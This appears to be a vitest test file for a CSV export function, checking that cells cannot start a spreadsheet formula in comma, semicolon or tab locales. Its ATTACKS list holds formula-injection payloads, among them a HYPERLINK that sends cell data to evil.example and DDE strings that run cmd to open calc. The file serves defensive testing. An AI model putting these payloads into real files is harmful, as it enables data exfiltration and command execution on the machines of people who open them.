/**
 * CSV downloads in every common spreadsheet locale (shared/csv.ts): a reader splitting on `,`, `;` or a
 * tab never finds a cell that starts a formula, whatever vendor text the cells hold; a reader of our own
 * separator reads every cell back whole.
 */
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../shared/csv.ts';

/**
 * How a spreadsheet in a locale reads the file: split on its separator and on line breaks, a quote
 * honoured only where one of its own cells begins (a doubled quote inside is one quote), and after the
 * closing quote the rest up to the separator appended, as Excel and LibreOffice read CSV.
 */
function readAs(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let atStart = true;
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') field += text[++i];
      else quoted = false;
    } else if (atStart && c === '"') {
      quoted = true;
      atStart = false;
    } else if (c === separator) {
      row.push(field);
      field = '';
      atStart = true;
    } else if (c === '\r' || c === '\n') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      atStart = true;
    } else {
      field += c;
      atStart = false;
    }
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** What a spreadsheet would run: a cell starting (past any spaces) with = + - @, a tab or a CR, unless it is a plain number. */
const isFormula = (cell: string): boolean => {
  const text = cell.replace(/^ +/, '');
  return /^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(text);
};

/** Attack strings, each as a vendor's error text might carry it. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"details")',
  'x;=HYPERLINK("http://evil.example/?"&A1,"details")',
  "HTTP 500;+cmd|' /C calc'!A0",
  'rate limited;-2+3',
  "bad request;@SUM(1+1)*cmd|' /C calc'!A0",
  'x\t=1+1',
  'x;\t=1+1',
  'x; =1+1',
  'x;"=1+1"',
  'x; " =1+1',
  'a,b;=1+1',
  'a,=1+1',
  'line one\n=1+1',
  'line one\r\n+1+1',
  'line one\r-1+1',
  '\r=1+1',
  '\t\t=1+1',
  ';;;=1+1',
  '"=1+1"',
];

const LOCALES = [
  ['comma', ','],
  ['semicolon', ';'],
  ['tab', '\t'],
] as const;

describe('CSV in every spreadsheet locale', () => {
  for (const attack of ATTACKS) {
    for (const place of ['first', 'middle', 'last'] as const) {
      const record =
        place === 'first'
          ? { detail: attack, n: 1, ok: 'fine' }
          : place === 'middle'
            ? { a: 'fine', detail: attack, n: -1.5 }
            : { a: 'fine', n: 2, detail: attack };
      for (const [name, separator] of LOCALES) {
        it(`${JSON.stringify(attack)} as the ${place} cell starts no formula for a ${name} reader`, () => {
          const csv = toCsv([record, { detail: { note: attack } }]);
          const cells = readAs(csv, separator).flat();
          expect(cells.filter(isFormula), JSON.stringify(csv)).toEqual([]);
        });
      }
      it(`${JSON.stringify(attack)} as the ${place} cell reads back whole for a comma reader, neutralised only where a formula would start`, () => {
        const rows = readAs(toCsv([record]), ',');
        expect(rows).toHaveLength(2);
        expect(rows[1]).toHaveLength(3);
        const read = rows[1][Object.keys(record).indexOf('detail')];
        // Taking out each apostrophe put before a formula start gives the text back.
        expect(read.replace(/'(?=[=+\-@\t\r])/g, '')).toBe(attack);
      });
    }
  }

  it('neutralises exactly as the table says; numbers stay numbers', () => {
    const table: Array<[unknown, string]> = [
      ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
      ['x;=HYPERLINK(1)', `"x;'=HYPERLINK(1)"`],
      ['x\t@SUM(A1)', `"x\t'@SUM(A1)"`],
      ['a; "-2+3', `"a; ""'-2+3"`],
      ['+1', `'+1`],
      ['@SUM(A1)', `'@SUM(A1)`],
      ['\tx', `"'\tx"`],
      ['-2+3', `'-2+3`],
      ['x;y', `"x;y"`],
      ['x\ty', `"x\ty"`],
      ['a - b', 'a - b'],
      ['fine', 'fine'],
      [-1.5, '-1.5'],
      [{ note: 'x;=1' }, `"{""note"":""x;'=1""}"`],
    ];
    for (const [value, want] of table) expect(toCsv([{ v: value }]).split('\r\n')[1], JSON.stringify(value)).toBe(want);
  });
});
